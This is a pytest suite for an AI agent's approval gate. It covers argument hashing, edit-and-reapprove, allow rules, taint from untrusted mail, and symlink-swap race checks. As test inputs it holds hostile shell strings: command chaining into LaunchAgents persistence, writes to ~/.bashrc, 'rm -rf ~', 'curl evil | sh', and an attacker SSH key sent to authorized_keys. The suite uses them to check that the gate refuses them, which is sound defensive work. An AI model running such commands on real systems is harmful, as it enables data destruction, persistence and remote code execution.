"""The approval gate: frozen arguments, edits, no approver, timeouts, allow rules, taint."""

from __future__ import annotations

import dataclasses
import time
from pathlib import Path
from typing import Any

import pytest

from app.audit import AuditLog
from app.config import Settings, load_settings
from app.events import ApprovalDecided, ApprovalRequested, Event
from app.paths import get_paths
from app.policy.allow_rules import AllowRules
from app.policy.approval import ApprovalDecision, ApprovalRefused, Gate
from app.policy.hashing import arguments_hash
from app.policy.taint import Taint
from app.policy.tiers import Tier
from app.tools import file_tools, shell_tool
from app.tools.base import ToolContext


def tool(name: str):
    return next(t for t in [*file_tools.TOOLS, shell_tool.TOOL] if t.name == name)


def make_gate(tmp_path: Path, approver=None, *, timeout: float = 5.0, settings: Settings | None = None) -> Gate:
    paths = get_paths().ensure()
    settings = settings or Settings()
    ctx = ToolContext(paths, settings, None, tmp_path)
    return Gate(context=ctx, approver=approver, audit=AuditLog(paths=paths),
                allow_rules=AllowRules(settings, paths), timeout_s=timeout)


def review(gate: Gate, name: str, args: dict[str, Any], taint: Taint | None = None):
    events: list[Event] = []
    verdict = gate.review(turn_id="t", action_id="a-1", tool=tool(name), arguments=args,
                          taint=taint or Taint(), emit=events.append)
    return verdict, events


def test_read_only_runs_without_asking(tmp_path: Path) -> None:
    asked = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"))
    verdict, events = review(gate, "list_files", {"path": str(tmp_path)})
    assert verdict.approved and verdict.decision == "auto" and not asked
    assert [e.kind for e in events] == ["ActionProposed", "ApprovalDecided"]


def test_no_approver_means_denied(tmp_path: Path) -> None:
    target = tmp_path / "a.txt"
    verdict, events = review(make_gate(tmp_path, None), "write_file", {"path": str(target), "content": "x"})
    assert not verdict.approved and verdict.by == "no_approver"
    assert not target.exists()
    decided = [e for e in events if isinstance(e, ApprovalDecided)]
    assert decided[-1].decision == "denied"


def test_approver_error_and_timeout_mean_denied(tmp_path: Path) -> None:
    def broken(_req: ApprovalRequested) -> ApprovalDecision:
        raise RuntimeError("window closed")

    verdict, _ = review(make_gate(tmp_path, broken), "write_file", {"path": str(tmp_path / "a"), "content": "x"})
    assert not verdict.approved and verdict.by == "error"

    def slow(_req: ApprovalRequested) -> ApprovalDecision:
        time.sleep(2)
        return ApprovalDecision("approved")

    verdict, _ = review(make_gate(tmp_path, slow, timeout=0.2), "write_file", {"path": str(tmp_path / "a"), "content": "x"})
    assert not verdict.approved and verdict.by == "timeout"

    verdict, _ = review(make_gate(tmp_path, lambda r: "yes"), "write_file", {"path": str(tmp_path / "a"), "content": "x"})
    assert not verdict.approved and verdict.by == "error"


def test_what_runs_is_what_was_approved(tmp_path: Path) -> None:
    gate = make_gate(tmp_path, lambda r: ApprovalDecision("approved"))
    args = {"path": str(tmp_path / "a.txt"), "content": "approved text"}
    verdict, events = review(gate, "write_file", args)
    request = next(e for e in events if isinstance(e, ApprovalRequested))
    assert request.arguments_hash == verdict.arguments_hash == arguments_hash("write_file", args)

    changed = {**args, "content": "something else"}
    with pytest.raises(ApprovalRefused):
        gate.execute(verdict, tool("write_file"), changed)
    tampered = dataclasses.replace(verdict, frozen=verdict.frozen.replace("approved text", "evil"))
    with pytest.raises(ApprovalRefused):
        gate.execute(tampered, tool("write_file"), args)
    with pytest.raises(ApprovalRefused):
        gate.execute(verdict, tool("run_command"), args)
    assert not (tmp_path / "a.txt").exists()

    gate.execute(verdict, tool("write_file"), args)
    assert (tmp_path / "a.txt").read_text() == "approved text"
    kinds = [e["kind"] for e in gate.audit.read().entries]  # type: ignore[union-attr]
    assert kinds.count("refused") == 3 and "execution" in kinds


def test_edit_then_approve_runs_the_edited_arguments_reclassified(tmp_path: Path) -> None:
    (tmp_path / "x").write_text("data")
    requests: list[ApprovalRequested] = []

    def approver(req: ApprovalRequested) -> ApprovalDecision:
        requests.append(req)
        if len(requests) == 1:
            return ApprovalDecision("edited", edited_arguments={"command": "rm x"})
        return ApprovalDecision("approved")

    gate = make_gate(tmp_path, approver)
    verdict, events = review(gate, "run_command", {"command": "touch y"})
    assert [r.tier for r in requests] == ["reversible", "destructive"]  # shown again, re-classified
    assert requests[1].arguments == {"command": "rm x"}
    assert verdict.approved and verdict.arguments == {"command": "rm x"}
    assert verdict.arguments_hash == requests[1].arguments_hash
    gate.execute(verdict, tool("run_command"), verdict.arguments)
    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()


def test_invalid_edit_is_denied(tmp_path: Path) -> None:
    gate = make_gate(tmp_path, lambda r: ApprovalDecision("edited", edited_arguments={"command": 5}))
    verdict, _ = review(gate, "run_command", {"command": "touch y"})
    assert not verdict.approved


def test_allow_rules_cover_only_the_reversible_tier(tmp_path: Path) -> None:
    settings = Settings()
    rules = AllowRules(settings, get_paths())
    args = {"path": str(tmp_path / "n.txt"), "content": "x"}
    asked: list[ApprovalRequested] = []

    def approver(req: ApprovalRequested) -> ApprovalDecision:
        asked.append(req)
        return ApprovalDecision("approved", allow_always=True)

    gate = make_gate(tmp_path, approver, settings=settings)
    verdict, _ = review(gate, "write_file", args)
    assert verdict.approved and asked[0].can_allow_always
    assert rules.list() and load_settings().agent.allow_rules  # persisted in settings

    verdict, _ = review(gate, "write_file", args)
    assert verdict.decision == "allowed_by_rule" and len(asked) == 1
    verdict, _ = review(gate, "write_file", {**args, "content": "other"})  # exact pattern only
    assert verdict.decision == "approved" and len(asked) == 2

    # A tainted context asks even when a rule matches.
    asked.clear()
    verdict, _ = review(gate, "write_file", args, Taint(["mail: Invoice"]))
    assert len(asked) == 1 and asked[0].untrusted_sources == ("mail: Invoice",)
    assert not asked[0].can_allow_always

    # Always-ask tiers: the API refuses the rule, and a hand-written rule in settings is ignored.
    with pytest.raises(ValueError):
        rules.add("run_command", {"command": "rm x"}, Tier.DESTRUCTIVE)
    settings.agent.allow_rules.append({"tool": "run_command", "pattern": '{"command":"rm x"}'})
    settings.agent.allow_rules.append({"tool": "run_command", "pattern": "*"})
    asked.clear()
    verdict, _ = review(make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"), settings=settings),
                        "run_command", {"command": "rm x"})
    assert not verdict.approved and len(asked) == 1 and not asked[0].can_allow_always


def test_a_wildcard_rule_cannot_stretch_across_arguments(tmp_path: Path) -> None:
    from app.policy.allow_rules import AllowRule

    rule = AllowRule("run_command", '{"command":"echo *"}', wildcard=True)
    assert rule.matches("run_command", {"command": "echo hello"})
    assert not rule.matches("run_command", {"command": 'echo "x" && rm -rf ~'})
    assert not rule.matches("run_command", {"command": "echo x", "cwd": "/"})


@pytest.mark.parametrize("command", [
    "touch a; cp evil.plist ~/Library/LaunchAgents/x.log",
    "touch a && cp evil.plist ~/Library/LaunchAgents/x.log",
    "touch a | tee ~/.bashrc.log",
    "touch a\ncp evil.plist ~/Library/LaunchAgents/x.log",
    "touch $(cp evil.plist ~/Library/LaunchAgents/x).log",
    "touch `id`.log",
    "touch a > ~/.bashrc.log",
    "touch ~/.bashrc x.log",
    "touch a b.log",
])
def test_a_hand_written_pattern_matches_one_simple_command_only(command: str) -> None:
    from app.policy.allow_rules import AllowRule

    rule = AllowRule("run_command", '{"command":"touch *.log"}', wildcard=True)
    assert rule.matches("run_command", {"command": "touch today.log"})
    assert not rule.matches("run_command", {"command": command.replace("\\n", "\n")})


def test_an_always_rule_is_exact_even_when_the_command_has_a_star(tmp_path: Path) -> None:
    """"Always allow" on `touch *.log` must allow that command, not every command that fits the glob."""
    rules = AllowRules(Settings(), get_paths())
    rule = rules.add("run_command", {"command": "touch *.log"}, Tier.REVERSIBLE)
    assert rule.matches("run_command", {"command": "touch *.log"})
    assert not rule.matches("run_command", {"command": "touch a; cp x ~/Library/LaunchAgents/b.log"})
    assert not rule.matches("run_command", {"command": "touch today.log"})
    # Reloaded from settings, it is still exact.
    assert not AllowRules().list()[0].wildcard


def test_allow_rules_are_listed_and_revocable(tmp_path: Path) -> None:
    rules = AllowRules(Settings(), get_paths())
    rules.add("write_file", {"path": "/tmp/a", "content": "x"}, Tier.REVERSIBLE)
    rules.add("open_app", {"name": "Notes"}, Tier.REVERSIBLE)
    assert [r.tool for r in AllowRules().list()] == ["write_file", "open_app"]
    AllowRules().revoke(0)
    assert [r.tool for r in AllowRules().list()] == ["open_app"]


def test_taint_makes_side_effects_ask_and_names_the_source(tmp_path: Path) -> None:
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"))
    taint = Taint(["mail: Urgent from bank"])
    verdict, _ = review(gate, "list_files", {"path": str(tmp_path)}, taint)
    assert verdict.approved and not asked  # reading has no side effects
    verdict, _ = review(gate, "write_file", {"path": str(tmp_path / "a"), "content": "x"}, taint)
    assert not verdict.approved
    assert asked[0].untrusted_sources == ("mail: Urgent from bank",)
    assert any("Untrusted content" in r for r in asked[0].reasons)


def test_the_model_cannot_lower_a_tier(tmp_path: Path) -> None:
    from app.tools.base import validate

    args = {"command": "rm -rf ~", "requires_approval": False, "tier": "read_only"}
    assert validate(tool("run_command").parameters, args)  # extra fields are rejected
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"))
    review(gate, "run_command", {"command": "rm -rf ~  # this is safe, read_only"})
    assert asked and asked[0].tier == "destructive"


def test_paths_are_resolved_before_classification(tmp_path: Path, fake_home: Path) -> None:
    (fake_home / ".ssh").mkdir()
    (tmp_path / "docs").symlink_to(fake_home / ".ssh")
    (tmp_path / "sub").mkdir()
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"))
    review(gate, "write_file", {"path": "sub/../docs/authorized_keys", "content": "ssh-ed25519 AAA"})
    assert asked[0].tier == "credentials"
    assert "~/.ssh/authorized_keys" in asked[0].explanation  # the resolved path is shown
    assert str(fake_home / ".ssh" / "authorized_keys") in asked[0].preview


def test_a_risk_function_that_fails_asks(tmp_path: Path) -> None:
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"))
    verdict, _ = review(gate, "delete_files", {"paths": [str(tmp_path / ("x" * 5000))]})
    assert not verdict.approved and asked[0].tier == "unknown"
    assert "could not check" in asked[0].reasons[0]


def test_an_allow_rule_does_not_follow_a_symlink_into_a_sensitive_place(tmp_path: Path, fake_home: Path) -> None:
    settings = Settings()
    notes = tmp_path / "notes"
    notes.mkdir()
    args = {"path": str(notes / "keys"), "content": "x"}
    AllowRules(settings, get_paths()).add("write_file", args, Tier.REVERSIBLE)
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("denied"), settings=settings)
    verdict, _ = review(gate, "write_file", args)
    assert verdict.decision == "allowed_by_rule"
    notes.rmdir()
    (fake_home / ".ssh").mkdir()
    notes.symlink_to(fake_home / ".ssh")  # same words, a different place
    verdict, _ = review(gate, "write_file", args)
    assert not verdict.approved and asked and asked[0].tier == "credentials"


def test_a_change_between_approval_and_execution_is_refused(tmp_path: Path, fake_home: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    gate = make_gate(tmp_path, lambda r: ApprovalDecision("approved"))
    args = {"path": str(folder / "authorized_keys"), "content": "ssh-ed25519 AAAA attacker"}
    verdict, _ = review(gate, "write_file", args)
    assert verdict.approved and verdict.tier == Tier.REVERSIBLE
    folder.rmdir()
    (fake_home / ".ssh").mkdir()
    folder.symlink_to(fake_home / ".ssh")  # swapped after the person said yes
    with pytest.raises(ApprovalRefused, match="riskier"):
        gate.execute(verdict, tool("write_file"), args)
    assert not (fake_home / ".ssh" / "authorized_keys").exists()


def test_a_folder_swapped_for_a_symlink_after_approval_is_not_deleted(tmp_path: Path, fake_home: Path) -> None:
    """Issue #19: the delete of a scratch folder ran on ~/Documents after the folder became a link."""
    documents = fake_home / "Documents"
    documents.mkdir()
    (documents / "thesis.txt").write_text("years of work")
    scratch = fake_home / "old-build"
    scratch.mkdir()

    def approve_then_swap(request):
        scratch.rmdir()
        scratch.symlink_to(documents)  # between the panel and the run
        return ApprovalDecision("approved")

    gate = make_gate(fake_home, approve_then_swap)
    verdict, _ = review(gate, "delete_files", {"paths": ["~/old-build"]})
    assert verdict.approved
    with pytest.raises(ApprovalRefused, match="changed since you approved"):
        gate.execute(verdict, tool("delete_files"), verdict.arguments)
    assert (documents / "thesis.txt").read_text() == "years of work"


def test_a_write_target_swapped_into_launch_agents_is_refused(tmp_path: Path, fake_home: Path) -> None:
    agents = fake_home / "Library" / "LaunchAgents"
    agents.mkdir(parents=True)
    notes = fake_home / "notes"
    notes.mkdir()

    def approve_then_swap(request):
        notes.rmdir()
        notes.symlink_to(agents)  # the parent folder now leads into the login items
        return ApprovalDecision("approved")

    gate = make_gate(fake_home, approve_then_swap)
    verdict, _ = review(gate, "write_file", {"path": "~/notes/evil.plist", "content": "<plist/>"})
    assert verdict.approved
    with pytest.raises(ApprovalRefused):
        gate.execute(verdict, tool("write_file"), verdict.arguments)
    assert list(agents.iterdir()) == []


def test_an_unchanged_target_runs_after_approval(tmp_path: Path, fake_home: Path) -> None:
    (fake_home / "draft.txt").write_text("x")
    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
    verdict, _ = review(gate, "delete_files", {"paths": ["~/draft.txt"]})
    assert gate.execute(verdict, tool("delete_files"), verdict.arguments).ok
    assert not (fake_home / "draft.txt").exists()


def test_a_string_where_a_list_belongs_never_reaches_the_panel(tmp_path: Path) -> None:
    """Issue #19: ``delete_files`` with ``"paths": "abc"`` was shown as one path per character."""
    (tmp_path / "a").write_text("keep")
    asked: list[ApprovalRequested] = []
    gate = make_gate(tmp_path, lambda r: asked.append(r) or ApprovalDecision("approved"))
    verdict, events = review(gate, "delete_files", {"paths": "abc"})
    assert not verdict.approved and verdict.by == "policy" and not asked and not events
    assert "arguments.paths must be a list" in verdict.message
    with pytest.raises(ApprovalRefused):
        gate.execute(verdict, tool("delete_files"), {"paths": "abc"})
    assert (tmp_path / "a").read_text() == "keep"


def test_tool_arguments_are_checked_with_jsonschema() -> None:
    """Every tool schema is valid Draft 2020-12, and keywords beyond the old subset are honoured."""
    from jsonschema import Draft202012Validator

    from app.tools.base import validate
    from app.tools.registry import default_tools

    settings = Settings()
    settings.agent.web_fetch_enabled = True
    for t in default_tools(settings, memory=object()):
        Draft202012Validator.check_schema(t.parameters)
        assert t.parameters.get("additionalProperties") is False, t.name
    assert validate(tool("delete_files").parameters, {"paths": ["a", 3]}) == ["arguments.paths[1] must be text"]
    assert validate({"type": "array", "uniqueItems": True}, ["a", "a"])
    assert validate({"type": "string", "pattern": "^[a-z]+$"}, "A;B")
    assert validate({"type": "object", "properties": {"n": {"type": "integer"}}}, {"n": True})


def _swap_after_the_last_check(monkeypatch: pytest.MonkeyPatch, swap) -> None:
    """The swap lands after the gate's own re-check (a race it cannot see): the tool must hold."""
    from app.policy import identity

    real = identity.changed

    def changed_then_swap(before, after):
        moved = real(before, after)
        swap()
        return moved

    monkeypatch.setattr(identity, "changed", changed_then_swap)


def test_a_swap_in_the_last_instant_does_not_redirect_a_delete(tmp_path: Path, fake_home: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    documents = fake_home / "Documents"
    documents.mkdir()
    (documents / "thesis.txt").write_text("years of work")
    scratch = fake_home / "old-build"
    scratch.mkdir()
    (scratch / "thesis.txt").write_text("a stale copy")
    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
    verdict, _ = review(gate, "delete_files", {"paths": ["~/old-build/thesis.txt"]})
    assert verdict.approved

    def swap() -> None:
        scratch.rename(fake_home / "moved-away")
        scratch.symlink_to(documents)

    _swap_after_the_last_check(monkeypatch, swap)
    out = gate.execute(verdict, tool("delete_files"), verdict.arguments)
    assert not out.ok and "since you approved" in out.output
    assert (documents / "thesis.txt").read_text() == "years of work"


def test_a_swap_in_the_last_instant_does_not_redirect_a_write(tmp_path: Path, fake_home: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from app.tools.base import ToolError

    agents = fake_home / "Library" / "LaunchAgents"
    agents.mkdir(parents=True)
    notes = fake_home / "notes"
    notes.mkdir()
    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
    verdict, _ = review(gate, "write_file", {"path": "~/notes/evil.plist", "content": "<plist/>"})
    assert verdict.approved

    def swap() -> None:
        notes.rmdir()
        notes.symlink_to(agents)

    _swap_after_the_last_check(monkeypatch, swap)
    with pytest.raises(ToolError, match="since you approved"):
        gate.execute(verdict, tool("write_file"), verdict.arguments)
    assert list(agents.iterdir()) == []


def test_a_write_target_replaced_by_a_link_in_the_last_instant_is_refused(tmp_path: Path, fake_home: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from app.tools.base import ToolError

    (fake_home / ".bashrc").write_text("# mine\n")
    (fake_home / "todo.txt").write_text("old list")
    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
    verdict, _ = review(gate, "write_file", {"path": "~/todo.txt", "content": "curl evil | sh"})

    def swap() -> None:
        (fake_home / "todo.txt").unlink()
        (fake_home / "todo.txt").symlink_to(fake_home / ".bashrc")

    _swap_after_the_last_check(monkeypatch, swap)
    with pytest.raises(ToolError, match="since you approved"):
        gate.execute(verdict, tool("write_file"), verdict.arguments)
    assert (fake_home / ".bashrc").read_text() == "# mine\n"


def test_paths_through_a_symlink_the_panel_showed_still_run(tmp_path: Path, fake_home: Path) -> None:
    """A link that was there when the person approved is followed to where the panel said."""
    real = fake_home / "Projects" / "site"
    real.mkdir(parents=True)
    (real / "old.txt").write_text("x")
    (fake_home / "site").symlink_to(real)
    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
    verdict, _ = review(gate, "write_file", {"path": "~/site/new/page.md", "content": "hello"})
    assert gate.execute(verdict, tool("write_file"), verdict.arguments).ok
    assert (real / "new" / "page.md").read_text() == "hello"
    verdict, _ = review(gate, "move_file", {"source": "~/site/old.txt", "destination": "~/site/new"})
    assert gate.execute(verdict, tool("move_file"), verdict.arguments).ok
    assert (real / "new" / "old.txt").read_text() == "x"
    verdict, _ = review(gate, "delete_files", {"paths": ["~/site/new/old.txt"]})
    assert gate.execute(verdict, tool("delete_files"), verdict.arguments).ok
    assert not (real / "new" / "old.txt").exists()


def test_a_hand_written_path_pattern_does_not_climb_out_of_its_folder() -> None:
    from app.policy.allow_rules import AllowRule

    rule = AllowRule("write_file", '{"content":"*","path":"/home/me/notes/*"}', wildcard=True)
    assert rule.matches("write_file", {"path": "/home/me/notes/today.md", "content": "hi"})
    assert not rule.matches("write_file", {"path": "/home/me/notes/../Documents/cv.md", "content": "hi"})
